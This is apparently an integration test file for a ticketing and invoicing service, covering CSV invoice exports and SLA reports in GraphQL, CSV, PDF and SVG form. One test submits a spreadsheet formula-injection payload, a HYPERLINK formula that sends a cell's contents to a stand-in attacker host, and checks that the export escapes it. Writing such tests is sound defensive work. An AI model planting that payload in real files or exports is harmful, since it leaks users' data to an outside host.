import { INVOICE_BASIS_RULE } from '../src/collaboration/invoice.service';
import { FixedClock } from '../src/platform/clock';
import { XMLParser } from 'fast-xml-parser';
import {
  AcceptServiceOrderQuoteDocument,
  AddTicketCommentDocument,
  EscalateTicketDocument,
  PlaceServiceOrderDocument,
  QuoteServiceOrderDocument,
  ResolveTicketDocument,
  SlaReportFirstLineDocument,
  type TicketFieldsFragment,
} from './generated/graphql';
import { pdfText } from './support/pdf-text';
import { A, directoryIds, local, phoneTicket, type Ids } from './support/fixtures';
import { startTestApp, type TestApp } from './support/test-app';

/** Issue 13, items 3, 18 and 15 (first-line resolution per service): the exports and the forum's SLA report. */

const clock = new FixedClock(local('2027-05-03T09:00'));
let t: TestApp;
let ids: Ids;

beforeAll(async () => {
  t = await startTestApp({ clock });
  ids = await directoryIds(t);
}, 60_000);
afterAll(() => t?.stop());

describe('CSV exports (item 3)', () => {
  it('an order titled as a spreadsheet formula comes out of /invoices/<month>.csv as text, and the amounts stay numbers', async () => {
    const payload = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const ticket = await phoneTicket(t, ids, { title: 'Tilläggstjänst' });
    const placed = await t.gql(A.customer, PlaceServiceOrderDocument, { input: { ticketId: ticket.id, kind: 'ADD_ON', title: payload, description: 'Enligt underlag.' } } as never);
    const orderId = placed.data!.placeServiceOrder.order!.id;
    expect((await t.gql(A.accountManager, QuoteServiceOrderDocument, { input: { orderId, quote: 'Offert', monthlyPrice: 4500 } })).data!.quoteServiceOrder.userErrors).toEqual([]);
    expect((await t.gql(A.customer, AcceptServiceOrderQuoteDocument, { orderId })).data!.acceptServiceOrderQuote.order!.status).toBe('ORDERED');

    const res = await t.get(A.accountManager, `/invoices/2027-05.csv?agencyId=${ids.skatteverket}`);
    expect(res.status).toBe(200);
    expect((await res.text()).split('\r\n')).toEqual([
      'month,agency,kind,reference,description,hours,unit_price_sek,total_sek,delivery_approved_on',
      `2027-05,Skatteverket,ADD_ON,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","Tilläggstjänst, månadsavgift",,4500.00,4500.00,`,
      '2027-05,Skatteverket,AGENCY_TOTAL,,,,,4500.00,',
      '2027-05,,TOTAL,,,,,4500.00,',
      `2027-05,,NOTE,,"${INVOICE_BASIS_RULE}",,,,`,
      '',
    ]);
  });
});

describe('the forum\'s SLA report (items 18 and 15)', () => {
  const version = async (ticket: TicketFieldsFragment) => (await t.sql<{ version: number }>('select version from ticket where number = $1', [ticket.number]))[0].version;
  /** Försäkringskassan's customer, P3 (first response 4 h, resolution 24 business hours), created Monday 2 August 2027 09:00, answered at 10:00. */
  async function ticket(serviceId: string, title: string): Promise<TicketFieldsFragment> {
    clock.set(local('2027-08-02T09:00'));
    const created = await phoneTicket(t, ids, { title, requesterId: ids.otherCustomer, serviceId, impact: 'MEDIUM', urgency: 'MEDIUM', category: 'QUESTION' });
    clock.set(local('2027-08-02T10:00'));
    expect((await t.gql(A.agent, AddTicketCommentDocument, { ticketId: created.id, input: { body: 'Vi tittar på det.', visibility: 'PUBLIC' } })).data!.addTicketComment.userErrors).toEqual([]);
    return created;
  }
  async function resolve(as: string, ticket: TicketFieldsFragment, at: string) {
    clock.set(local(at));
    const res = await t.gql(as, ResolveTicketDocument, { ticketId: ticket.id, input: { expectedVersion: await version(ticket), resolution: 'Besvarat.' } });
    expect(res.data!.resolveTicket.userErrors).toEqual([]);
  }
  let escalated: TicketFieldsFragment;
  const query = () => `period=2027-Q3&agencyId=${encodeURIComponent(ids.forsakringskassan)}`;

  beforeAll(async () => {
    const travel = await ticket(ids.travelExpenses, 'Resa, löst i första linjen');
    await resolve(A.agent, travel, '2027-08-02T15:00');
    escalated = await ticket(ids.travelExpenses, 'Resa, eskalerad');
    const res = await t.gql(A.agent, EscalateTicketDocument, { ticketId: escalated.id, input: { expectedVersion: await version(escalated), groupId: ids.payrollGroup, reason: 'Kräver lönespecialist' } });
    expect(res.data!.escalateTicket.userErrors).toEqual([]);
    await resolve(A.payrollSpecialist, escalated, '2027-08-04T17:00'); // 8 + 9 + 9 = 26 business hours: breached (24 h), at the second line
    const absence = await t.id('Service', `select id from service where code = 'ABSENCE_LEAVE'`);
    await resolve(A.agent, await ticket(absence, 'Semester, löst i första linjen'), '2027-08-02T16:00');
    await resolve(A.agent, await ticket(ids.supplierInvoices, 'Faktura, löst i första linjen'), '2027-08-03T09:00');
    clock.set(local('2027-08-10T14:00'));
  }, 60_000);

  it('reports first-line resolution per service beside the per-area figure, in GraphQL and CSV (item 15)', async () => {
    const res = await t.gql(A.accountManager, SlaReportFirstLineDocument, { input: { period: '2027-Q3', agencyId: ids.forsakringskassan } });
    expect(res.errors).toBeUndefined();
    expect(res.data!.slaReport.volumes).toEqual({ resolved: 4, firstLineResolutionRate: 0.75 });
    expect(res.data!.slaReport.firstLineResolution.map((f) => [f.level, f.serviceArea.code, f.service?.code ?? null, f.resolved, f.firstLine, f.rate])).toEqual([
      ['AREA', 'PAYROLL', null, 3, 2, 0.667],
      ['SERVICE', 'PAYROLL', 'ABSENCE_LEAVE', 1, 1, 1],
      ['SERVICE', 'PAYROLL', 'TRAVEL_EXPENSES', 2, 1, 0.5],
      ['AREA', 'FINANCE', null, 1, 1, 1],
      ['SERVICE', 'FINANCE', 'SUPPLIER_INVOICES', 1, 1, 1],
    ]);
    const csv = (await (await t.get(A.accountManager, `/reports/sla.csv?${query()}`)).text()).split('\r\n');
    const at = csv.indexOf('first_line_level,service_area,service,resolved,first_line,first_line_rate');
    expect(csv.slice(at, at + 7)).toEqual([
      'first_line_level,service_area,service,resolved,first_line,first_line_rate',
      'AREA,PAYROLL,,3,2,0.667',
      'SERVICE,PAYROLL,ABSENCE_LEAVE,1,1,1',
      'SERVICE,PAYROLL,TRAVEL_EXPENSES,2,1,0.5',
      'AREA,FINANCE,,1,1,1',
      'SERVICE,FINANCE,SUPPLIER_INVOICES,1,1,1',
      '',
    ]);
  });

  it('the PDF speaks Swedish, wraps long names, dates itself in Stockholm time, and shows each deviation\'s tier, group and the per-service first-line figures (item 18)', async () => {
    const res = await t.get(A.accountManager, `/reports/sla.pdf?${query()}`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=sla-2027-Q3-forsakringskassan.pdf');
    const text = pdfText(Buffer.from(await res.arrayBuffer()));
    expect(text[1]).toBe('Försäkringskassan · 2027-07-01 \u0096 2027-09-30 · avtalad andel inom tid 95 %'); // the en dash is 0x96 in WinAnsi
    expect(text[3]).toBe('Skapad 2027-08-10 14:00 svensk tid.'); // 12:00 UTC
    // Volumes: the category and priority with their Swedish labels, no enum key.
    const volumes = text.indexOf('Registrerade ärenden');
    expect(text.slice(volumes, volumes + 10)).toEqual(['Registrerade ärenden', '4', '  Prioritet 3', '4', '  Fråga', '4', 'Lösta ärenden', '4', '  lösta i första linjen', '3']);
    expect(text.filter((l) => /QUESTION|kategori|prioritet P/.test(l))).toEqual([]);
    // Service names in full (the outcome table used to cut them off with an ellipsis).
    expect(text.filter((l) => l.includes('Frånvaro och'))).toEqual(['Frånvaro och semester', 'Frånvaro och semester', 'Frånvaro och semester']);
    // The deviation: the escalated case's resolution, 26 h against 24, the time spent at the second line, held by payroll.
    const deviation = text.indexOf(escalated.number);
    expect(text.slice(deviation, deviation + 8)).toEqual([escalated.number, 'Lösning', '2027-08-04', '26', '24', '2', 'Andra linjen', 'Produktion Lön']);
    const firstLine = text.indexOf('Lösta i första linjen per område och tjänst');
    expect(text.slice(firstLine + 6, firstLine + 21)).toEqual(['Lön', 'alla', '3', '2', '66,7 %', 'Lön', 'Frånvaro och semester', '1', '1', '100 %', 'Lön', 'Resor och utlägg', '2', '1', '50 %']);
  });

  it('the monthly chart\'s axis carries its unit and fits the data instead of always starting at 0 (item 18)', async () => {
    const res = await t.get(A.accountManager, `/reports/sla/chart.svg?${query()}&chart=share`);
    const svg = new XMLParser({ ignoreAttributes: false, attributeNamePrefix: '@', parseTagValue: false }).parse(await res.text()).svg;
    const texts: string[] = svg.text.map((x: { '#text': string }) => x['#text']);
    // August: first response 4 of 4 (100 %), resolution 3 of 4 (75 %): the axis runs 70-100 % in steps of 5 % (not 0-100).
    expect(texts.filter((x) => x.endsWith(' %') && !x.startsWith('Mål'))).toEqual(['70 %', '75 %', '80 %', '85 %', '90 %', '95 %', '100 %']);
    expect(texts).toContain('Andel inom tid (%)');
  });

  it('the CSV carries the months and the deviations with tier and group, and a file name naming the agency and period (item 18)', async () => {
    const res = await t.get(A.accountManager, `/reports/sla.csv?${query()}`);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename=sla-2027-Q3-forsakringskassan.csv');
    const csv = (await res.text()).split('\r\n');
    const months = csv.indexOf('month,metric,measured,met,share_percent');
    expect(csv.slice(months, months + 11)).toEqual([
      'month,metric,measured,met,share_percent',
      '2027-07,FIRST_RESPONSE,0,0,',
      '2027-07,RESOLUTION,0,0,',
      '2027-07,TIME_AT_VENDOR,0,0,',
      '2027-08,FIRST_RESPONSE,4,4,100',
      '2027-08,RESOLUTION,4,3,75',
      '2027-08,TIME_AT_VENDOR,0,0,',
      '2027-09,FIRST_RESPONSE,0,0,',
      '2027-09,RESOLUTION,0,0,',
      '2027-09,TIME_AT_VENDOR,0,0,',
      '',
    ]);
    const deviations = csv.indexOf('deviation_ticket,metric,day,elapsed_hours,target_hours,overrun_hours,tier_where_time_went,group');
    // The deviations' table ends at the next blank line (the breakdowns per group and agent follow it).
    expect(csv.slice(deviations + 1, csv.indexOf('', deviations) + 1)).toEqual([`${escalated.number},RESOLUTION,2027-08-04,26,24,2,SECOND,Produktion Lön`, '']);
    // The whole centre and a delivery manager's scope are named as such.
    expect((await t.get(A.admin, '/reports/sla.csv?period=2027-Q3')).headers.get('content-disposition')).toBe('attachment; filename=sla-2027-Q3-hela-centret.csv');
    expect((await t.get(A.deliveryManager, '/reports/sla.pdf?period=2027-Q3')).headers.get('content-disposition')).toBe('attachment; filename=sla-2027-Q3-skatteverket-lon-forsakringskassan-lon.pdf');
  });
});
